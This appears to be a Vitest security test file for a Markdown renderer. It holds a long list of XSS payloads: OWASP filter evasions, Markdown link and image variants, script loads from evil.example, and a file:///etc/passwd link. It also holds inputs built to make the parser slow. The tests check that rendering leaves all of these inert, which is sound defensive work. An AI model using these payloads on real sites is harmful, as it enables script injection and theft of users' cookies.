import { describe, expect, test } from 'vitest';
import { renderMarkdown } from '#server/platform/markdown/render.ts';
import { renderTexts } from '#server/platform/markdown/render-texts.ts';
import { everyNth } from '#tests/support/samples.ts';

// OWASP's filter evasion list, Markdown variants of it, and known exploits of parsers.
const scripts = [
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14; javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<SCRIPT/SRC="https://evil.example/x.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=https://evil.example/x.js?< B >`,
  `<SCRIPT SRC=//evil.example/.j>`,
  `<IMG SRC="('XSS')"`,
  `<iframe src=https://evil.example/x.html <`,
  `\\";alert('XSS');//`,
  `</script><script>alert('XSS');</script>`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `Set.constructor\`alert\\x28document.domain\\x29\``,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'https://evil.example/x.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  `<HTML xmlns:xss><?import namespace="xss" implementation="https://evil.example/x.htc"><xss:xss>XSS</xss:xss></HTML>`,
  `<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>`,
  '<SCRIPT a=`>` SRC="https://evil.example/x.js"></SCRIPT>',
  `<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>`,
  `<form><button formaction="javascript:alert(1)">X</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<div id=getElementById name=body>`,
  `<img name=getElementById id=cookie>`,
  '[a](javascript:alert(1))',
  '[a](JAVASCRIPT:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](java&Tab;script:alert(1))',
  '[a](java&NewLine;script:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](<\u0001javascript:alert(1)>)',
  '[a](<\u00a0javascript:alert(1)>)',
  '[a](\\javascript:alert(1))',
  '[a](javascript\\:alert(1))',
  '[a](java\\script:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[a](file:///etc/passwd)',
  '[a](blob:https://site.test/x)',
  '[a](view-source:javascript:alert(1))',
  '[a](https://x" onclick="alert(1))',
  '[a](<https://x" onclick="alert(1)>)',
  '[a](https://x "title" onclick="alert(1)")',
  `[a](https://x '" onclick="alert(1)')`,
  '![a](javascript:alert(1))',
  '![a](data:text/html,<script>alert(1)</script>)',
  '![a"onerror="alert(1)](x.png)',
  '![a](x.png"onerror="alert(1))',
  '![a](<x.png" onerror="alert(1)>)',
  '![a](x.png "t" onerror=alert(1) ")',
  '<javascript:alert(1)>',
  '<JaVaScRiPt:alert(1)>',
  '<data:text/html,x>',
  '<vbscript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '[a]: <javascript:alert(1)> "x"\n\n![a]',
  '![a](javascript:alert(1)//x.mp3)',
  '![a](java&Tab;script:alert(1)//x.mp4)',
  '![a](data:audio/mp3;base64,AAAA.mp3)',
  '![a](blob:https://site.test/x.mp3)',
  '![a](vbscript:x.ogg)',
  '![a](//evil.example/x.mp3)',
  '![a"onplay="alert(1)](x.mp3)',
  '![a](<x.mp3" onerror="alert(1)>)',
  '![<img src=x onerror=alert(1)>](x.mp3)',
  '![a](x.mp3)\n\n> **Transcript** <img src=x onerror=alert(1)> [a](javascript:alert(1))',
  '![</audio><script>alert(1)</script>](https://www.youtube.com/watch?v="onclick="alert(1))',
  '[^"onclick="alert(1)]: x\n\n[^"onclick="alert(1)]',
  '[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x',
  '```"><script>alert(1)</script>\nx\n```',
  '``` js" onmouseover="alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> |\n|---|\n| [a](javascript:alert(1)) |',
  '- [x] <script>alert(1)</script>',
  'http://x"onmouseover="alert(1)',
  'www.x.example/"onmouseover="alert(1)',
  'a@b.example"onmouseover="alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<\u2028script>alert(1)</script>',
  '</script><!--<script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x onclick=alert(1)>**bold**</x>',
  '**<img src=x onerror=alert(1)>**',
  '[<img src=x onerror=alert(1)>](https://x)',
  '# <svg/onload=alert(1)>',
];

const elements = new Set(
  `a audio blockquote br code del details div em figcaption figure h2 h3 h4 h5 h6 hr img input li
   ol p pre section span strong summary sup table tbody td th thead tr ul video`.split(/\s+/),
);
const attributes = new Set(
  `align alt aria-describedby aria-label checked class controls data-footnote-backref data-footnote-ref
   data-footnotes decoding dir disabled href id loading preload role src start tabindex title type`.split(
    /\s+/,
  ),
);
const safeAddress = /^(?:https?:\/\/|mailto:|xmpp:|ircs?:|\/|#|\?|\.|[^:/?#]*(?:[/?#]|$))/i;
const tag = /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"]*")?)*)>/y;

/** Parses HTML by an allow-list grammar; anything else is an error. */
function expectHarmless(html: string): void {
  for (let at = html.indexOf('<'); at !== -1; at = html.indexOf('<', tag.lastIndex)) {
    tag.lastIndex = at;
    const found = tag.exec(html);
    expect(found, `a tag at ${html.slice(at, at + 60)}`).not.toBeNull();
    const [, , name = '', written = ''] = found ?? [];
    expect(elements).toContain(name);
    for (const [, attribute = '', value = ''] of written.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      expect(attributes).toContain(attribute);
      if (attribute === 'href' || attribute === 'src')
        expect(asBrowser(value)).toMatch(safeAddress);
      if (attribute === 'id') expect(value).toMatch(/^text-[0-9a-f]{8}-/);
      if (attribute === 'class') {
        expect(value).toMatch(
          /^(?:table|recording|recording-link|unfold|sr-only|footnotes|data-footnote-backref|contains-task-list|task-list-item|language-.*)$/,
        );
      }
      if (attribute === 'type') expect(value).toBe('checkbox');
    }
  }
}

/** A URL as a browser interprets it: entities decoded, and ignored characters removed. */
const asBrowser = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_all, code) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replace(/&#(\d+);?/g, (_all, code) => String.fromCodePoint(Number(code)))
    .replace(/&colon;/g, ':')
    .replace(/&(?:amp|tab|newline);/gi, '')
    // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop exactly these.
    .replace(/[\u0000-\u0020]/g, '');

test.each(scripts)('32: scripts in Markdown are inert: %s', (text) => {
  expectHarmless(renderMarkdown(text));
});

test('32: scripts are inert everywhere in Markdown', () => {
  const places = [
    (text: string) => `> ${text}`,
    (text: string) => `- ${text}`,
    (text: string) => `| ${text} |\n|---|\n| ${text} |`,
    (text: string) => `[${text}](https://who.int)`,
    (text: string) => `![${text}](${text})`,
    (text: string) => `[x](https://who.int "${text}")`,
    (text: string) => `Note.[^1]\n\n[^1]: ${text}`,
    (text: string) => `\`\`\`${text}\n${text}\n\`\`\``,
    (text: string) => `<div>\n\n${text}\n\n</div>`,
  ];
  for (const text of scripts) {
    for (const place of places) expectHarmless(renderMarkdown(place(text)));
  }
});

test('32: inert code is still shown as text', () => {
  expect(renderMarkdown('<script>alert(1)</script>')).toContain('&#x3C;script>alert(1)');
});

test('33: text that would end a script or a line is inert in a page’s state', () => {
  expectHarmless(renderMarkdown('</script><!-- \u2028 \u2029 -->'));
});

describe('34: Markdown designed to be slow', () => {
  const fill = (part: string) => part.repeat(Math.ceil(200_000 / part.length)).slice(0, 200_000);

  const slow = [
    ['quotes', fill('> ')],
    ['quotes in lists', fill('> - ')],
    ['pictures', fill('![')],
    ['brackets', fill('[')],
    ['emphasis', fill('*a_ ')],
    ['headings', fill('a\n===\n')],
    ['emphasis of two kinds', fill('*a **b ')],
    ['struck text', fill('~a~~b ')],
    ['list items', fill('- a\n')],
    ['lazy quotes', `${'> '.repeat(99)}${fill('a\n')}`],
    ['table rows', `|a|\n|-|\n${fill('|b|\n')}`],
  ] as const;

  test.each(everyNth(3, slow))('is refused or shown: %s', async (_what, text) => {
    await renderTexts({ warm: 'The thread is there.' });
    const outcome = await renderTexts({ text }).then(
      () => 'shown',
      (error) => error.code,
    );
    expect(outcome).toBeOneOf(['shown', 'badInput']);
  });

  test('is refused when it needs too much memory, and the program goes on', async () => {
    for (const item of ['- a\n', '1. a\n', '- \n']) {
      await renderTexts({ warm: 'The thread is there.' });
      await expect(renderTexts({ text: fill(item) })).rejects.toMatchObject({ code: 'badInput' });
    }
    expect(await renderTexts({ after: 'It works again.' })).toHaveProperty('after');
  });
});
